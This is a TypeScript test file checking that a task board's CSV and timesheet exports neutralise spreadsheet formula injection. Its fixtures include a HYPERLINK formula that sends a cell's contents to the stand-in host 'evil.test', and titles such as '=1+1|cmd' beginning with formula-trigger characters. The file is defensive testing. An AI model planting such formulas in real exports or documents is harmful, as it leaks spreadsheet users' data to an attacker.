import { expect, test } from "vitest";
import { parse } from "csv-parse/sync";
import { db } from "@/lib/db";
import { withoutGuard } from "@/lib/text/formula-guard";
import { aBoardOfAnna, aField, aFieldValue, aLabel, assign, aSubtask, aTask } from "@/lib/testing";
import { attachLabel } from "@/lib/testing/factories/labels";
import { anExport } from "@/lib/testing/http/exports";

const FORMULA = '=HYPERLINK("https://evil.test?x="&A1,"Click")';
const BEGINNINGS = ["=", "+", "-", "@", "\t", "\r", "'=", "''+", "＝", "＋", "－", "＠", "\n="];

/** What a spreadsheet may run. */
const RUNS = /^[=+\-@\t\r\n＝＋－＠]/;

const cellsOf = async (response: Response): Promise<string[][]> =>
  parse(await response.text(), { bom: true }) as string[][];

test("no cell of an export is a formula, and reading the file gives the texts back", async () => {
  const { anna, board, toDo } = await aBoardOfAnna();
  const titles = BEGINNINGS.map((beginning) => `${beginning}1+1|cmd`);
  await db.board.update({ where: { id: board.id }, data: { title: FORMULA } });
  await db.stage.update({ where: { id: toDo.id }, data: { title: "@SUM(A1)" } });
  await db.user.update({ where: { id: anna.id }, data: { displayName: "+Anna" } });
  const field = await aField(board, { title: "=Field", type: "text" });
  for (const title of titles) {
    const task = await aTask(toDo, { title, slug: title, source: title, description: title });
    await attachLabel(task, await aLabel(board, { title }));
    await aFieldValue(task, field, title);
    await aSubtask(task, { title });
    await assign(task, anna);
  }

  const [header = [], ...rows] = await cellsOf(
    await anExport(anna, { action: "boards_export_csv", board_id: String(board.id) }),
  );

  expect([header, ...rows].flat().filter((cell) => RUNS.test(cell))).toEqual([]);
  const column = (name: string) => rows.map((cells) => withoutGuard(cells[header.indexOf(name)] ?? ""));
  expect(column("Task Title")).toEqual(titles);
  expect(column("Description")).toEqual(titles);
  expect(column("Labels")).toEqual(titles);
  expect(column("'=Field")).toEqual(titles);
  expect(column("Subtasks")).toEqual(titles.map((title) => `[ ] ${title}`));
  expect(new Set(column("Board Title"))).toEqual(new Set([FORMULA]));
});

test("neither is a cell of a timesheet", async () => {
  const { anna, board, toDo } = await aBoardOfAnna();
  await db.user.update({ where: { id: anna.id }, data: { displayName: "=Anna" } });
  const task = await aTask(toDo, { title: "@task" });
  await db.timeTrack.create({
    data: { taskId: task.id, boardId: board.id, userId: anna.id, completedAt: new Date(), message: FORMULA },
  });

  const [, row = []] = await cellsOf(
    await anExport(anna, { action: "boards_export_timesheet", board_id: String(board.id) }),
  );

  expect(row).toHaveLength(9);
  expect(row.filter((cell) => RUNS.test(cell))).toEqual([]);
  expect(row.map(withoutGuard)).toEqual(expect.arrayContaining(["=Anna", "@task", FORMULA]));
});
